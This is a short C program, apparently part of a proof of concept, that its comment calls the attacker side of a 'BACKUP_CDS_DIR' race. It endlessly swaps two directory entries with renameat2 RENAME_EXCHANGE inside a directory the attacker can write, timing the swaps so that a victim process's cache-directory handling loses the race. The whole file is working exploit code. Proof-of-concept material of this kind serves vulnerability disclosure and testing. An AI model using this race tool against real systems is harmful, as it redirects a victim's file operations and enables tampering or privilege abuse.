/* Attacker side of the BACKUP_CDS_DIR race: atomically exchanges two directory entries in a
 * directory the attacker can write (the parent of the victim's cache dir), forever. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
int main(int argc, char **argv) {
    if (argc != 3) { fprintf(stderr, "usage: flip A B\n"); return 2; }
    for (unsigned long n = 0;; n++) {
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) { perror("renameat2"); return 1; }
        if ((n & 1) == 0) usleep(200); /* leave the swapped state in place a little */
        else usleep(700);
    }
}
